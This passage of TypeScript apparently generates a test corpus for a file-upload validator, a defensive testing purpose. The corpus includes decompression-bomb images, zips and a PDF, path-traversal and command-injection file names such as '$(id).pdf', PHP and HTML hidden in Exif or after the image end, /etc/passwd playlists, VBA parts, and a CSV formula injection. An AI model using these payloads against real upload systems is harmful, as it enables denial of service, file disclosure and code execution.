  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, bits, transparent ? 6 : 2, 0, 0, interlaced ? 1 : 0])
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  const start = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')
  return Buffer.concat([
    start,
    pngChunk('IHDR', header),
    ...more,
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** A JPEG whose frame header states another size. */
function jpegClaiming(jpeg: Buffer, width: number, height: number): Buffer {
  const claiming = Buffer.from(jpeg)
  const frame = claiming.indexOf(Buffer.from([0xff, 0xc0]))
  claiming.writeUInt16BE(height, frame + 5)
  claiming.writeUInt16BE(width, frame + 7)
  return claiming
}

/** A lossless WebP with only a header: 14 bits for each side. */
function webpClaiming(width: number, height: number, transparent = 0): Buffer {
  const header = Buffer.alloc(16)
  header[0] = 0x2f
  header.writeUInt32LE((width - 1) | ((height - 1) << 14) | (transparent << 28), 1)
  return riff([['VP8L', header]])
}

/** States one size outside and another inside. */
function webpOnCanvas(width: number, height: number): Buffer {
  const canvas = Buffer.alloc(10)
  canvas.writeUIntLE(width - 1, 4, 3)
  canvas.writeUIntLE(height - 1, 7, 3)
  return riff([
    ['VP8X', canvas],
    ['VP8L', Buffer.from([0x2f, 0xff, 0xff, 0xff, 0x0f, 0, 0, 0])],
  ])
}

function riff(chunks: [string, Buffer][]): Buffer {
  const body = chunks.map(([name, data]) => {
    const head = Buffer.alloc(8)
    head.write(name, 'latin1')
    head.writeUInt32LE(data.length, 4)
    return Buffer.concat([head, data, Buffer.alloc(data.length % 2)])
  })
  const all = Buffer.concat([Buffer.from('WEBP'), ...body])
  const head = Buffer.alloc(8)
  head.write('RIFF', 'latin1')
  head.writeUInt32LE(all.length, 4)
  return Buffer.concat([head, all])
}

/** Small, valid files that take far more memory or time than their size suggests. */
async function largePictures(): Promise<Row[]> {
  const zlib = (bytes: number) => {
    const packed = Buffer.concat([Buffer.from([0x78, 0x9c]), zeroBomb(Math.floor(bytes / MB)).subarray(0, -2)])
    return Buffer.concat([packed, deflateRawSync(Buffer.alloc(bytes % MB)), adlerOfZeros(bytes)])
  }
  const flat = { create: { width: 8000, height: 5000, channels: 3, background: '#789' } } as const
  const deep = { width: 8000, height: 5000, bits: 16, transparent: true } as const
  return [
    ['tall.png', '1 x 40,000,000', png(1, 40_000_000, zlib(40_000_000 * 4))],
    ['wide.png', '40,000,000 x 1', png(40_000_000, 1, zlib(40_000_000 * 3 + 1))],
    ['deep.png', '40 megapixels of 64 bits', pngOf(deep, zlib(5000 * (8000 * 8 + 1)))],
    ['deep-interlaced.png', 'the same, interlaced', pngOf({ ...deep, interlaced: true }, zlib(5000 * (8000 * 8 + 2)))],
    ['progressive.jpg', '40 megapixels, progressive', await sharp(flat).jpeg({ progressive: true }).toBuffer()],
  ]
}

/** The checksum at the end of a zlib stream. */
function adlerOfZeros(bytes: number): Buffer {
  const checksum = Buffer.alloc(4)
  checksum.writeUInt32BE((((bytes % 65_521) << 16) | 1) >>> 0)
  return checksum
}

async function hostilePictures(good: Parts): Promise<Row[]> {
  const bomb = Buffer.concat([Buffer.from([0x78, 0x9c]), zeroBomb(300)])
  const flipped = Buffer.from(good.png)
  flipped[Math.floor(flipped.length / 2)] = ~(flipped[Math.floor(flipped.length / 2)] ?? 0) & 0xff
  return [
    ['giant.png', 'claims 50,000 x 50,000', png(50_000, 50_000, deflateSync(Buffer.alloc(64)))],
    ['giant2.png', 'claims 2 billion wide', png(0x7f_ff_ff_ff, 1, deflateSync(Buffer.alloc(64)))],
    ['giant3.png', 'claims 2 billion both ways', png(0x7f_ff_ff_ff, 0x7f_ff_ff_ff, deflateSync(Buffer.alloc(64)))],
    ['giant4.png', 'more than it may, by a row', png(8000, 5001, deflateSync(Buffer.alloc(64)))],
    ['zero.png', '0 x 0', png(0, 0, deflateSync(Buffer.alloc(64)))],
    ['bomb.png', '300 MB in a small picture of 9,000 x 9,000', png(9000, 9000, bomb)],
    ['flipped.png', 'one byte is wrong', flipped],
    ['no-deflate.png', 'pixels that are no deflate', png(64, 64, Buffer.from('no deflate at all'))],
    ['few.png', 'too few pixels', png(2000, 2000, deflateSync(Buffer.alloc(1000)))],
    ['giant.jpg', 'claims 50,000 x 50,000', jpegClaiming(good.jpeg, 50_000, 50_000)],
    ['giant.jpeg', 'claims 65,500 x 65,500', jpegClaiming(good.jpeg, 65_500, 65_500)],
    ['zero.jpg', '0 x 0', jpegClaiming(good.jpeg, 0, 0)],
    ['marker.jpg', 'nothing but a start', '\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9'],
    ['php.jpg', 'PHP behind the first three bytes', `\xff\xd8\xff${PHP}`],
    ['giant.webp', 'claims 50,000 x 50,000', webpOnCanvas(50_000, 50_000)],
    ['giant2.webp', 'claims 16,383 x 8,000', webpClaiming(16_383, 8000)],
    ['giant3.webp', 'claims 6,000 x 6,000 and has no pixels', webpClaiming(6000, 6000)],
    ['giant4.webp', 'claims 4,001 x 4,000, transparent', webpClaiming(4001, 4000, 1)],
    ['html.webp', 'HTML in the place of the picture', riff([['VP8 ', Buffer.from(HTML)]])],
    ['wave.webp', 'a sound', `RIFF\x24\0\0\0WAVEfmt \x10\0\0\0${'\0'.repeat(24)}`],
    ['heic.jpg', 'HEIC', '\0\0\0\x18ftypheic\0\0\0\0mif1heic'],
    ...(await largePictures()),
  ]
}

async function hostileVideos(good: Parts): Promise<Row[]> {
  const [old, matroska, sound, attached] = await Promise.all([
    filmedBy(['-c:v', 'mpeg4', '-an'], 'mp4'),
    filmedBy(['-c:v', 'libvpx', '-an', '-deadline', 'realtime'], 'mkv'),
    filmedBy(['-vn', '-c:a', 'aac'], 'mp4'),
    filmedBy(
      [
        '-c:v',
        'libvpx',
        '-an',
        '-deadline',
        'realtime',
        '-attach',
        import.meta.filename,
        '-metadata:s:t',
        'mimetype=text/plain',
        '-f',
        'matroska',
      ],
      'webm',
    ),
  ])
  const swapped = (bytes: Buffer, from: string, to: string) => {
    const changed = Buffer.from(bytes)
    changed.write(to, changed.indexOf(from), 'latin1')
    return changed
  }
  const outside = Buffer.from(good.mp4)
  outside[outside.indexOf('url ', outside.indexOf('dref')) + 7] = 0
  const box = (type: string, body: string) => {
    const bytes = Buffer.from(`\0\0\0\0${type}${body}`, 'latin1')
    bytes.writeUInt32BE(bytes.length)
    return bytes
  }
  const ftyp = box('ftyp', 'isom\0\0\x02\0isomiso2')
  const noPicture = Buffer.from(good.mp4)
  noPicture.fill(0, noPicture.indexOf('mdat') + 4)
  return [
    ['outside.mp4', 'samples in another file', outside],
    ['index.mp4', 'compressed index', swapped(good.mp4, 'udta', 'cmov')],
    ['quicktime.mp4', 'QuickTime', Buffer.concat([box('ftyp', 'qt  \0\0\x02\0qt  '), good.mp4.subarray(32)])],
    ['avif.mp4', 'a picture', box('ftyp', 'avif\0\0\0\0avifmif1miaf')],
    ['only-brand.mp4', 'nothing but a brand', ftyp],
    ['html.mp4', 'HTML in the place of the samples', Buffer.concat([ftyp, box('mdat', HTML)])],
    ['tiny-boxes.mp4', 'a hundred thousand boxes', Buffer.concat([ftyp, Buffer.alloc(800_000, box('free', ''))])],
    [
      'huge-box.mp4',
      'a box of 2^63 bytes',
      Buffer.concat([ftyp, bytesOf('\0\0\0\x01moov\x7f\xff\xff\xff\xff\xff\xff\xff')]),
    ],
    ['no-size.mp4', 'a box smaller than itself', Buffer.concat([ftyp, bytesOf('\0\0\0\x03moov')])],
    ['no-picture.mp4', 'samples of zeros', noPicture],
    ['old.mp4', 'a codec that browsers do not play', old],
    ['sound.mp4', 'no picture', sound],
    ['matroska.webm', 'Matroska', matroska],
    ['attached.webm', 'with a file attached, said to be Matroska', attached],
    ['attached2.webm', 'with a file attached, said to be WebM', saidToBeWebm(attached)],
    ['old.webm', 'MP4 codec in WebM', saidToBeWebm(await filmedBy(['-c:v', 'mpeg4', '-an'], 'mkv'))],
    ['playlist.mp4', 'a playlist', '#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n'],
    [
      'playlist2.mp4',
      'a playlist with a brand',
      Buffer.concat([ftyp, bytesOf('\n#EXTM3U\n#EXTINF:1,\n/etc/passwd\n')]),
    ],
    ['concat.webm', 'a list of files', 'ffconcat version 1.0\nfile /etc/passwd\n'],
    [
      'endless.webm',
      'an element of unknown size',
      '\x1a\x45\xdf\xa3\x87\x42\x82\x84webm\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff',
    ],
    ['huge.webm', 'an element of 2^55 bytes', '\x1a\x45\xdf\xa3\x01\x7f\xff\xff\xff\xff\xff\xff\x42\x82\x84webm'],
  ]
}

/** Replaces the document type; "matroska" is longer than "webm", so the rest must be filled. */
function saidToBeWebm(matroska: Buffer): Buffer {
  const at = matroska.indexOf(Buffer.from('\x42\x82\x88matroska', 'latin1'))
  const changed = Buffer.from(matroska)
  // A Void element of two bytes and its content fills the remaining space.
  changed.write('\x42\x82\x84webm\xec\x82\0\0', at, 'latin1')
  return changed
}

function xlsxWith(more: ZipEntry[], without?: string): Buffer {
  return zipOf([...xlsxParts().filter(({ name }) => name !== without), ...more])
}

function hostileTables(good: Parts): Row[] {
  const types = xlsxParts()[0]?.data.toString() ?? ''
  const bomb = zeroBomb(300)
  const parts: [name: string, data?: string][] = [
    ['../../etc/passwd'],
    ['/etc/passwd'],
    ['..\\..\\windows\\win.ini'],
    ['C:\\x'],
    ['xl/../../x'],
    ['xl/./x.xml'],
    ['xl/a\0.xml'],
    ['xl/vbaProject.bin'],
    ['XL/VBAPROJECT.BIN'],
    ['xl/vbaProjectSignature.bin'],
    ['vbaProject.bin', 'macros'],
    ['xl/macrosheets/sheet1.xml'],
    ['xl/activeX/activeX1.bin'],
    ['xl/embeddings/oleObject1.bin'],
    ['xl/workbook.xml', 'twice'],
    ['XL/Workbook.xml', 'twice, in capitals'],
    ['xl/entity.xml', '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'],
    ['xl/entity-far.xml', `<!--${'x'.repeat(70_000)}--><!DOCTYPE x><x/>`],
  ]
  const withTypes = (data: string) => xlsxWith([{ name: '[Content_Types].xml', data }], '[Content_Types].xml')
  const csvs: [string, string | Buffer][] = [
    ['NUL', 'a,b\n1,\0\n'],
    ['an escape sequence of terminals', 'a,b\n\x1b]0;x\x07,2\n'],
    ['a delete character', 'a,b\n\x7f,2\n'],
    ['a later control character', Buffer.from('a,b\n\u0085,2\n')],
    ['UTF-16', Buffer.from('\ufeffa,b\n1,2\n', 'utf16le')],
    ['Latin-1', 'name\nJos\xe9\n'],
    ['overlong UTF-8', 'a\n\xc0\xaf\n'],
    ['half a pair', 'a\n\xed\xa0\x80\n'],
    ['cut within a character', 'a\n\xe0\xa4'],
    ['HTML after white space', `\n \t${HTML}`],
    ['HTML after much white space', `${'\n'.repeat(200_000)}${HTML}`],
    ['XML', '<?xml version="1.0"?><a/>'],
    ['JSON', ' {"a":1}'],
  ]
  return [
    ...parts.map(([name, data = 'x'], index): Row => {
      return [`part-${index}.xlsx`, `a part ${name}`, xlsxWith([{ name, data }])]
    }),
    ['utf16.xlsx', 'XML in UTF-16', xlsxWith([{ name: 'xl/a.xml', data: Buffer.from('<!DOCTYPE x>', 'utf16le') }])],
    [
      'bomb.xlsx',
      '300 MB, as it says',
      xlsxWith([{ name: 'xl/b.xml', data: '', lies: { packed: bomb, unpacked: 300 * MB } }]),
    ],
    [
      'bomb-lies.xlsx',
      '300 MB that says 1 KB',
      xlsxWith([{ name: 'xl/b.xml', data: '', lies: { packed: bomb, unpacked: 1024 } }]),
    ],
    [
      'bomb-lies2.xlsx',
      '300 MB that says 199 MB',
      xlsxWith([{ name: 'b', data: '', lies: { packed: bomb, unpacked: 199 * MB } }]),
    ],
    [
      'bomb-types.xlsx',
      'types of 300 MB',
      zipOf(xlsxParts().with(0, { name: '[Content_Types].xml', data: '', lies: { packed: bomb, unpacked: 190 * MB } })),
    ],
    ['overlap.xlsx', 'two parts of the same bytes', xlsxWith([{ name: 'xl/again.xml', data: '', lies: { at: 0 } }])],
    [
      'many.xlsx',
      '2,001 parts',
      xlsxWith(Array.from({ length: 1996 }, (_, index) => ({ name: `xl/${index}`, data: '' }))),
    ],
    ['nested.xlsx', 'nothing but a zip in a zip', zipOf([{ name: 'inner.zip', data: good.xlsx }])],
    ['encrypted.xlsx', 'an encrypted part', xlsxWith([{ name: 'xl/e.xml', data: 'x', lies: { flags: 1 } }])],
    ['crc.xlsx', 'a wrong checksum', xlsxWith([{ name: 'xl/c.xml', data: 'x', lies: { crc: 1 } }])],
    [
      'longer.xlsx',
      'a part longer than it says',
      xlsxWith([{ name: 'xl/l.xml', data: 'xxxx', lies: { unpacked: 3 } }]),
    ],
    [
      'shorter.xlsx',
      'a part shorter than it says',
      xlsxWith([{ name: 'xl/l.xml', data: 'xxxx', lies: { unpacked: 5 } }]),
    ],
    [
      'no-deflate.xlsx',
      'a part that is no deflate',
      xlsxWith([{ name: 'x', data: 'x', lies: { packed: Buffer.from('\xff\xff') } }]),
    ],
    [
      'behind.xlsx',
      'something behind a part',
      xlsxWith([
        {
          name: 'x',
          data: 'x',
          lies: { packed: Buffer.concat([deflateRawSync(Buffer.from('x')), Buffer.from(HTML)]) },
        },
      ]),
    ],
    ['no-types.xlsx', 'no types', xlsxWith([], '[Content_Types].xml')],
    ['no-book.xlsx', 'no workbook', xlsxWith([], 'xl/workbook.xml')],
    [
      'macro.xlsx',
      'XLSM by its types',
      withTypes(types.replace('officedocument.spreadsheetml.sheet.main', 'ms-excel.sheet.macroEnabled.main')),
    ],
    [
      'document.xlsx',
      'DOCX by its types',
      withTypes(types.replaceAll('spreadsheetml.sheet', 'wordprocessingml.document')),
    ],
    ['nothing.xlsx', 'a zip of nothing', zipOf([])],
    ['comment.xlsx', 'HTML in the comment of the zip', withComment(good.xlsx, HTML)],
    ...csvs.map(([about, bytes], index): Row => [`table-${index}.csv`, about, bytes]),
  ]
}

function withComment(zip: Buffer, comment: string): Buffer {
  const changed = Buffer.concat([zip, Buffer.from(comment)])
  changed.writeUInt16LE(comment.length, zip.length - 2)
  return changed
}

function namesWithoutKind(good: Parts): Row[] {
  const names = [
    'x.pdf.html',
    'x.pdf.',
    'x.pdf ',
    'x.pdf\n',
    'x.pdf\0',
    'x.pdf;.php',
    'x.pdf::$DATA',
    'x.pdf/',
    '.pdf.',
  ]
  const more = [
    'x',
    '',
    '.',
    '..',
    'pdf',
    'x.p\0df',
    'x.\u0440df',
    'x.\u202efdp',
    'invoice\u202efdp.exe',
    'x.pdf%00.html',
  ]
  return [...names, ...more].map((name) => [name, `PDF under the name ${JSON.stringify(name)}`, good.pdf])
}

/** Files with the right content; the name must never be used as a path. */
function evilNames(good: Parts): Row[] {
  const names = [
    '../../etc/passwd.pdf',
    '..\\..\\windows\\x.pdf',
    '%2e%2e%2f%2e%2e%2fx.pdf',
    '..%c0%afx.pdf',
    '/etc/cron.d/x.pdf',
    'C:\\Windows\\System32\\x.pdf',
    '\\\\server\\share\\x.pdf',
    'file:///etc/x.pdf',
    'x\0.pdf',
    'x.html\0.pdf',
    'x\r\nSet-Cookie: a=b.pdf',
    'x\x1b[31m.pdf',
    'gpj.\u202efdp.pdf',
    '\u2066x\u2069.pdf',
    '\ufeffx.pdf',
    `${'a'.repeat(5000)}.pdf`,
    `${'\u0915'.repeat(300)}.pdf`,
    'CON.pdf',
    'aux.pdf',
    'lpt1.pdf',
    'NUL.pdf',
    '.pdf',
    '...pdf',
    '.htaccess.pdf',
    '-rf.pdf',
    '--help.pdf',
    '|id.pdf',
    '$(id).pdf',
    '`id`.pdf',
    '"><img src=x onerror=alert(1)>.pdf',
    "'; drop table files; --.pdf",
    '{{7*7}}.pdf',
    '=cmd().pdf',
    'x.html.pdf',
    'x.php.pdf',
    'x.exe .pdf',
    'x.PDF',
    '__proto__.pdf',
    'constructor.pdf',
  ]
  return names.map((name) => [name, `PDF under the name ${JSON.stringify(name.slice(0, 40))}`, good.pdf])
}

async function harmlessOnceKept(good: Parts): Promise<Row[]> {
  const jar = zipOf([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: Evil\n' }])
  const behind = (bytes: Buffer, tail: Buffer | string) => Buffer.concat([bytes, bytesOf(tail)])
  const comment = (jpeg: Buffer, text: string) =>
    Buffer.concat([
      jpeg.subarray(0, 2),
      bytesOf(`\xff\xfe\0${String.fromCharCode(text.length + 2)}${text}`),
      jpeg.subarray(2),
    ])
  const described = (kind: 'jpeg' | 'png' | 'webp') =>
    sharp(good[kind])
      .withExif({ IFD0: { ImageDescription: PHP, Artist: HTML } })
      .toFormat(kind)
      .toBuffer()
  const text = (type: string, content: Buffer | string) =>
    pngChunk(type, Buffer.concat([Buffer.from('Comment\0'), bytesOf(content)]))
  const pixels = deflateSync(Buffer.alloc(64 * (64 * 3 + 1)))
  const bombText = Buffer.concat([Buffer.from([0, 0x78, 0x9c]), zeroBomb(50)])
  const frames = await sharp([good.webp, good.png], { join: { animated: true } })
    .webp()
    .toBuffer()
  return [
    ['php.jpg', 'PHP behind the end', behind(good.jpeg, PHP), PHP],
    ['html.jpg', 'HTML behind the end', behind(good.jpeg, HTML), HTML],
    ['jar.jpg', 'JAR behind the end', behind(good.jpeg, jar), 'PK\x03\x04'],
    ['pdf.jpg', 'PDF behind the end', behind(good.jpeg, good.pdf), '%PDF'],
    ['larger.jpg', 'claims 3,000 x 3,000 and has few pixels: the rest is grey', jpegClaiming(good.jpeg, 3000, 3000)],
    ['comment.jpg', 'PHP in a comment', comment(good.jpeg, PHP), PHP],
    ['exif.jpg', 'PHP in Exif', await described('jpeg'), PHP],
    ['exif.png', 'PHP in Exif', await described('png'), PHP],
    ['exif.webp', 'PHP in Exif', await described('webp'), PHP],
    ['zip.png', 'zip behind the end', behind(good.png, jar), 'PK\x03\x04'],
    ['html.png', 'HTML behind the end', behind(good.png, HTML), HTML],
    ['text.png', 'HTML in a text chunk', png(64, 64, pixels, text('tEXt', HTML)), HTML],
    ['text-bomb.png', '50 MB of text', png(64, 64, pixels, text('zTXt', bombText)), 'zTXt'],
    ['php.webp', 'PHP behind the end', behind(good.webp, PHP), PHP],
    ['animated.webp', 'more than one frame', frames, 'ANMF'],
    ['content-bomb.pdf', 'a page of 300 MB, which only a viewer unpacks', contentBomb()],
    ['formula.csv', 'formulas', "name,x\n=cmd|' /C calc'!A0,1\n"],
    ['script.csv', 'a script is a table of one column', 'alert(document.domain)\n'],
    ['x.html.csv', 'a table under a double name', good.csv],
    ['../../x.xlsx', 'an XLSX with a path', good.xlsx],
    ['../x.mp4', 'a video with a path', good.mp4],
    ['..\\x.webm', 'a video with a path', good.webm],
  ]
}

function contentBomb(): Buffer {
  const packed = Buffer.concat([Buffer.from([0x78, 0x9c]), zeroBomb(300)])
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    pdfStream('/Filter /FlateDecode', packed),
  ])
}
